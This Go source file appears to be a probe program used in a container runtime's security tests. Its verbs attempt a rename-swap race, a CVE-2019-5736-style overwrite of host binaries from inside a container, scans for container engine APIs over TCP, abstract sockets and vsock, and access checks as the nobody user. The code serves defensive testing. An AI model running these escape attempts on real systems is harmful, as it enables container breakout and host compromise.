// Program probe is what an attacker runs inside a container in the tests of package attack. Each verb tries one thing
// and says on standard output what it could do.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	verbs := map[string]func([]string) error{"swap": swap, "steal": steal, "ask": ask, "abstract": abstract, "vsock": vsock, "as": as}
	if len(os.Args) < 2 || verbs[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "unknown verb")
		os.Exit(2)
	}
	if err := verbs[os.Args[1]](os.Args[2:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// swap exchanges two names again and again, until it is killed.
func swap(args []string) error {
	fmt.Println("swapping")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return err
		}
	}
}

// steal looks for processes whose program is not of this container's root, holds on to it, and writes to it as soon as
// the kernel lets it (CVE-2019-5736). It ends when the file named exists; what it could do it writes down beside it, since
// its streams may end before it does.
func steal(args []string) error {
	var own unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &own); err != nil {
		return err
	}
	log, err := os.Create(args[0] + ".log")
	if err != nil {
		return err
	}
	fmt.Println("waiting")
	held := map[string]int{}
	for {
		if _, err := os.Stat(args[0]); err == nil {
			fmt.Fprintln(log, "held", len(held))
			return nil
		}
		list, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range list {
			var st unix.Stat_t
			if unix.Stat(exe, &st) != nil || st.Dev == own.Dev {
				continue
			}
			key := fmt.Sprint(st.Dev, st.Ino)
			if _, ok := held[key]; !ok {
				if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					held[key] = fd
				}
			}
		}
		for key, fd := range held {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if _, err := unix.Write(w, []byte("owned")); err == nil {
				fmt.Fprintln(log, "stolen", key)
			}
			unix.Close(w)
		}
	}
}

// ask sends a request of the engine's API to every address and names those that answer it.
func ask(addrs []string) error {
	var wg sync.WaitGroup
	turn := make(chan struct{}, 256)
	for _, addr := range addrs {
		turn <- struct{}{}
		wg.Go(func() {
			defer func() { <-turn }()
			c, err := net.DialTimeout("tcp", addr, 2*time.Second)
			if err != nil {
				return
			}
			defer c.Close()
			answer(addr, c)
		})
	}
	wg.Wait()
	fmt.Println("asked", len(addrs))
	return nil
}

// answer asks for the version on an open connection.
func answer(name string, c net.Conn) {
	c.SetDeadline(time.Now().Add(2 * time.Second))
	io.WriteString(c, "GET /version HTTP/1.0\r\nHost: engine\r\n\r\n")
	b, _ := io.ReadAll(io.LimitReader(c, 4096))
	if strings.Contains(string(b), "ApiVersion") {
		fmt.Println("answers:", name)
	}
}

// abstract asks at every socket that has no file, of which there is one list a network namespace.
func abstract([]string) error {
	b, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(b)) {
		f := strings.Fields(line)
		if len(f) < 8 || !strings.HasPrefix(f[7], "@") {
			continue
		}
		if c, err := net.DialTimeout("unix", f[7], 2*time.Second); err == nil {
			fmt.Println("open:", f[7])
			answer(f[7], c)
			c.Close()
		}
	}
	fmt.Println("done")
	return nil
}

// vsock dials the host, and this machine itself, at ports that agents like.
func vsock([]string) error {
	for _, cid := range []uint32{unix.VMADDR_CID_HYPERVISOR, unix.VMADDR_CID_LOCAL, unix.VMADDR_CID_HOST} {
		for _, port := range []uint32{1, 22, 1023, 1024, 1025, 2222, 2375, 2376, 4243, 5000, 8080, 9999, 10000, 50000} {
			fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				fmt.Println("done: no vsock here:", err)
				return nil
			}
			err = unix.Connect(fd, &unix.SockaddrVM{CID: cid, Port: port})
			if err == unix.EINPROGRESS {
				p := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}
				unix.Poll(p, 500)
				if n, e := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR); e == nil && n == 0 && p[0].Revents&unix.POLLOUT != 0 && p[0].Revents&(unix.POLLERR|unix.POLLHUP) == 0 {
					err = nil
				}
			}
			if err == nil {
				fmt.Println("open:", cid, port)
			}
			unix.Close(fd)
		}
	}
	fmt.Println("done")
	return nil
}

// as becomes nobody, then tries to list, read, execute and connect to each path, and names what it could do.
func as(args []string) error {
	const nobody = 65534
	if err := unix.Setgroups(nil); err != nil {
		return err
	}
	if err := unix.Setresgid(nobody, nobody, nobody); err != nil {
		return err
	}
	if err := unix.Setresuid(nobody, nobody, nobody); err != nil {
		return err
	}
	for _, p := range args {
		if c, err := net.Dial("unix", p); err == nil {
			c.Close()
			fmt.Println("connects:", p)
		}
		for what, mode := range map[string]uint32{"reads": unix.R_OK, "executes": unix.X_OK, "writes": unix.W_OK} {
			if unix.Access(p, mode) == nil {
				fmt.Println(what+":", p)
			}
		}
	}
	fmt.Println("tried", len(args))
	return nil
}
